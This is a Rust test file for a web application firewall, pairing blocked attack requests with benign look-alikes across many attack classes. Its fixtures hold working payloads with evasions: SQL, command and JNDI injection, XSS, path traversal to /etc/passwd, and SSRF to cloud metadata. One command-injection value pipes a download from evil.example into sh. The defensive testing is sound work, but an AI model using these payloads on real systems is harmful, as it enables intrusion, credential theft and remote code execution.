//! Detection behaviour of the built-in policy, pack by pack: attacks with their common
//! evasions are blocked, and the benign look-alikes that real APIs carry are not.

use vigil_engine::{Category, CompiledPolicy, Outcome};

mod common;

use common::{get, post, with_header, Case};

/// (outcome, categories, `rule@target[fragment]` per finding)
fn inspect(policy: &CompiledPolicy, case: &Case<'_>) -> (Outcome, Vec<Category>, Vec<String>) {
    let seen = common::inspect(policy, case);
    (seen.outcome, seen.categories, seen.fired)
}

fn assert_blocked(category: Category, cases: Vec<Case<'_>>) {
    let policy = CompiledPolicy::builtin().unwrap();
    for case in &cases {
        let (outcome, cats, ids) = inspect(&policy, case);
        assert_eq!(
            outcome,
            Outcome::Block,
            "not blocked: {} {} {:?} {:?} => {ids:?}",
            case.method,
            case.target,
            case.headers,
            case.body
        );
        assert!(
            cats.contains(&category),
            "blocked, but not as {category:?}: {} {:?} => {ids:?}",
            case.target,
            case.body
        );
    }
}

fn assert_allowed(cases: Vec<Case<'_>>) {
    let policy = CompiledPolicy::builtin().unwrap();
    for case in &cases {
        let (outcome, _, ids) = inspect(&policy, case);
        assert_ne!(
            outcome,
            Outcome::Block,
            "false positive: {} {} {:?} {:?} => {ids:?}",
            case.method,
            case.target,
            case.headers,
            case.body
        );
    }
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn sqli() {
    assert_blocked(
        Category::Sqli,
        vec![
            get("/search?q=1%27%20OR%20%271%27%3D%271"),
            get("/search?q=%2527%2520or%25201%253D1--"), // double encoding
            get("/search?q=1%20UnIoN%20aLl%20SeLeCt%20null,version()--"), // case
            get("/search?q=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"), // comments as spaces
            get("/search?q=1/*!50000UNION*/SELECT%201,2"), // MySQL version comment
            get("/items?id=1;%20DROP%20TABLE%20users"),
            get("/items?id=1%20AND%20SLEEP(5)"),
            get("/items?sort=name%20ASC,(SELECT%20*%20FROM%20information_schema.tables)"),
            get("/login?user=admin%27--"),
            post("/login", FORM, "username=admin%27+or+1%3D1--&password=x"),
            post(
                "/users",
                JSON,
                r#"{"name": "x\u0027 OR \u00271\u0027=\u00271"}"#,
            ), // JSON unicode escape
            get("/items?id=1%20or%201%3D1"),
            get("/items?id=%E2%80%99%20or%20%E2%80%981%E2%80%99%3D%E2%80%991"), // typographic quotes
        ],
    );
}

#[test]
fn sqli_look_alikes_pass() {
    assert_allowed(vec![
        get("/search?q=O%27Brien"),
        get("/search?q=select%20the%20best%20plan"),
        get("/search?q=men%27s%20shirts%20%26%20ties"),
        get("/search?q=Rock%20and%20roll%20or%20jazz"),
        get("/odata/Products?$filter=Price%20lt%2014.00%20and%20Category%20eq%20%27Books%27"),
        post(
            "/posts",
            JSON,
            r#"{"body": "5 < 10 and 10 > 5", "author": "Kwame D'Angelo"}"#,
        ),
        post(
            "/posts",
            JSON,
            r#"{"body": "Cash or card? Either's fine.", "note": "Please update the order by Friday"}"#,
        ),
        post(
            "/graphql",
            JSON,
            r#"{"query": "query GetUser($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id } } } } }"}"#,
        ),
    ]);
}

#[test]
fn nosqli() {
    assert_blocked(
        Category::Nosqli,
        vec![
            post(
                "/login",
                JSON,
                r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#,
            ),
            get("/users?username[$ne]=toto&password[$regex]=.*"),
            get("/users?filter=%7B%22%24gt%22%3A%22%22%7D"),
            post(
                "/login",
                JSON,
                r#"{"username": "admin", "password": "' || '1'=='1"}"#,
            ),
            post("/search", JSON, r#"{"q": "'; return true; var x='"}"#),
            post("/login", JSON, r#"{"username": { $ne: 1 }}"#), // not JSON, still inspected
        ],
    );
}

#[test]
fn xss() {
    assert_blocked(
        Category::Xss,
        vec![
            get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            get("/search?q=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E"),
            get("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
            get("/search?q=%26lt%3Bsvg%2Fonload%3Dalert(1)%26gt%3B"), // HTML entities
            get("/r?next=javascript:alert(document.cookie)"),
            get("/r?next=java%26%23115%3Bcript%3Aalert(1)"), // entity inside the scheme
            post(
                "/comments",
                JSON,
                r#"{"text": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
            ),
            post(
                "/comments",
                FORM,
                "text=%3Ciframe+src%3D%2F%2Fevil.example%3E",
            ),
            with_header(get("/"), "referer", "<svg onload=alert(1)>"),
            get("/search?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"), // full-width
        ],
    );
}

#[test]
fn xss_look_alikes_pass() {
    assert_allowed(vec![
        post(
            "/posts",
            JSON,
            r#"{"body": "<p>Thanks for the quick reply!</p>", "format": "html"}"#,
        ),
        post(
            "/posts",
            JSON,
            r#"{"body": "Visit <a href=\"https://www.example.com/shop\">our shop</a>"}"#,
        ),
        post(
            "/posts",
            JSON,
            r#"{"body": "H<sub>2</sub>O and E=mc<sup>2</sup>", "format": "markdown"}"#,
        ),
        post(
            "/posts",
            JSON,
            r#"{"body": "Use `const x = 1;` and **bold** text\n\n- item"}"#,
        ),
        post(
            "/addresses",
            JSON,
            r#"{"instructions": "Fragile: glass <handle with care>"}"#,
        ),
        get("/search?q=AT%26T%20online"),
    ]);
}

#[test]
fn cmdi() {
    assert_blocked(
        Category::Cmdi,
        vec![
            get("/ping?host=127.0.0.1%3B%20cat%20/etc/passwd"),
            get("/ping?host=x%7Cwhoami"),
            get("/ping?host=x%26%26id"),
            get("/ping?host=%24(whoami)"),
            get("/ping?host=%60id%60"),
            get("/ping?host=x%3Bcat%24%7BIFS%7D/etc/passwd"),
            with_header(get("/cgi"), "user-agent", "() { :; }; /bin/bash -c 'id'"),
            post(
                "/convert",
                JSON,
                r#"{"file": "a.png; curl http://evil.example/x | sh"}"#,
            ),
            get("/ping?host=x%0Auname%20-a"),
            get("/ping?host=%26%20ping%20-n%2030%20127.0.0.1"),
        ],
    );
}

#[test]
fn cmdi_look_alikes_pass() {
    assert_allowed(vec![
        with_header(get("/"), "user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
        with_header(get("/"), "user-agent", "MyApp/3.2.1 (iOS 17.4; iPhone15,2)"),
        post("/graphql", JSON, r#"{"variables": {"input": {"line1": "Apt #4; Floor 2, 77 Main St"}}}"#),
        get("/search?q=Tom%20%26%20more%20friends"),
        post("/notes", JSON, r#"{"text": "Ping me when you're done; sleep well"}"#),
    ]);
}

#[test]
fn path_traversal() {
    assert_blocked(
        Category::PathTraversal,
        vec![
            get("/files?name=../../../etc/passwd"),
            get("/files?name=..%2F..%2F..%2Fetc%2Fshadow"),
            get("/files?name=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
            get("/files/..%c0%af..%c0%af..%c0%afetc/passwd"), // overlong UTF-8
            get("/files?name=..%5C..%5C..%5Cboot.ini"),
            get("/files?name=%uff0e%uff0e%u2216%uff0e%uff0e%u2216etc%u2216issue"), // IIS unicode
            get("/files?name=....//....//etc/passwd"),
            post(
                "/render",
                JSON,
                r#"{"template": "../../../../proc/self/environ"}"#,
            ),
            get("/download?file=file:///etc/passwd"),
        ],
    );
}

#[test]
fn path_look_alikes_pass() {
    assert_allowed(vec![
        get("/v1/buckets/b/objects/photos%2F2024%2Fimg_0436.jpg"),
        get("/docs/api/v3/index.html"),
        get("/.well-known/jwks.json"),
        get("/robots.txt"),
        post(
            "/posts",
            JSON,
            r#"{"body": "Wait... what? 1..10 and see ./docs"}"#,
        ),
        get("/users/1.json"),
    ]);
}

#[test]
fn ssrf() {
    assert_blocked(
        Category::Ssrf,
        vec![
            get("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            get("/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F"),
            get("/fetch?url=http://127.1/"),
            get("/fetch?url=http://0x7f000001/"),
            get("/fetch?url=http://2130706433/"),
            get("/fetch?url=http://[::1]:8080/"),
            get("/fetch?url=gopher://127.0.0.1:6379/_INFO"),
            get("/fetch?url=http://metadata.google.internal/computeMetadata/v1/"),
            post(
                "/webhooks",
                JSON,
                r#"{"url": "http://user@10.0.0.5/admin"}"#,
            ),
        ],
    );
}

#[test]
fn ssrf_look_alikes_pass() {
    assert_allowed(vec![
        post(
            "/webhooks",
            JSON,
            r#"{"url": "https://hooks.example.com/services/T000/B000"}"#,
        ),
        with_header(
            get("/"),
            "user-agent",
            "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        ),
        get("/images?src=https%3A%2F%2Fcdn.example.com%2Fa.png"),
    ]);
}

#[test]
fn jndi() {
    assert_blocked(
        Category::Jndi,
        vec![
            with_header(get("/"), "user-agent", "${jndi:ldap://attacker.example/a}"),
            with_header(
                get("/"),
                "x-api-version",
                "${${lower:j}ndi:${lower:l}dap://x.example/a}",
            ),
            get("/search?q=%24%7B%24%7B%3A%3A-j%7D%7B%3A%3A-n%7Ddi%3Armi%3A%2F%2Fx%2Fa%7D"),
            post(
                "/comments",
                JSON,
                r#"{"body": "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x/a}"}"#,
            ),
        ],
    );
}

#[test]
fn ssti_xxe_code_ldap() {
    assert_blocked(
        Category::Ssti,
        vec![
            get("/search?q=%7B%7B7*7%7D%7D"),
            post(
                "/p",
                JSON,
                r#"{"bio": "{{config.__class__.__init__.__globals__}}"}"#,
            ),
            get("/s?q=%24%7B7*7%7D"),
            get("/s?q=%3C%25%3D%20File.open(%27/etc/passwd%27).read%20%25%3E"),
        ],
    );
    assert_blocked(
        Category::Xxe,
        vec![
            post(
                "/upload",
                "application/xml",
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            ),
            post(
                "/upload",
                "text/xml",
                r#"<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><r/>"#,
            ),
        ],
    );
    assert_blocked(
        Category::CodeInjection,
        vec![
            post("/p", JSON, r#"{"x": "<?php system($_GET['c']); ?>"}"#),
            get("/p?x=require(%27child_process%27).exec(%27id%27)"),
        ],
    );
    assert_blocked(
        Category::Ldapi,
        vec![
            get("/users?name=*)(uid=*))(|(uid=*"),
            get("/users?name=admin*)((|userPassword=*)"),
        ],
    );
    assert_allowed(vec![
        post(
            "/feeds",
            "application/xml",
            "<order><id>7</id><note>Leave at door &amp; ring</note></order>",
        ),
        post(
            "/p",
            JSON,
            r#"{"greeting": "Hello {name}, your total is ${total}"}"#,
        ),
    ]);
}

#[test]
fn scanners() {
    assert_blocked(
        Category::Scanner,
        vec![
            with_header(
                get("/"),
                "user-agent",
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
            ),
            with_header(
                get("/"),
                "user-agent",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
            ),
            with_header(get("/"), "user-agent", "Fuzz Faster U Fool v2.1.0-dev"),
            get("/.git/config"),
            get("/wp-login.php"),
            get("/.env"),
        ],
    );
    assert_allowed(vec![
        with_header(get("/"), "user-agent", "curl/8.5.0"),
        with_header(get("/"), "user-agent", "python-requests/2.31.0"),
        get("/v1/status"),
    ]);
}

#[test]
fn json_nesting_and_keys_are_inspected() {
    assert_blocked(
        Category::Sqli,
        vec![post(
            "/orders",
            JSON,
            r#"{"a": {"b": [{"c": ["1' UNION SELECT password FROM users--"]}]}}"#,
        )],
    );
    // Malformed or truncated JSON is still inspected as text.
    assert_blocked(
        Category::Xss,
        vec![post("/c", JSON, r#"{"text": "<script>alert(1)</script>"#)],
    );
}

#[test]
fn multipart_fields_and_file_names() {
    let body = "--b1\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n<script>alert(1)</script>\r\n--b1--\r\n";
    assert_blocked(
        Category::Xss,
        vec![post("/upload", "multipart/form-data; boundary=b1", body)],
    );
    let body = "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\u{1}PNG\r\n--b1--\r\n";
    assert_blocked(
        Category::PathTraversal,
        vec![post("/upload", "multipart/form-data; boundary=b1", body)],
    );
}

#[test]
fn crlf_injection() {
    assert_blocked(
        Category::Protocol,
        vec![
            get("/redirect?next=%2F%0D%0ASet-Cookie%3A%20session%3Dattacker"),
            get("/r?u=x%0d%0aLocation:%20http://evil.example"),
            get("/lang?l=en%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
            get("/a%0d%0aX-Injected:%201"),
        ],
    );
    assert_allowed(vec![
        post(
            "/tickets",
            JSON,
            r#"{"body": "Hi,\nLocation: Dublin office\nThanks"}"#,
        ),
        get("/search?q=line%0Atwo"),
    ]);
}
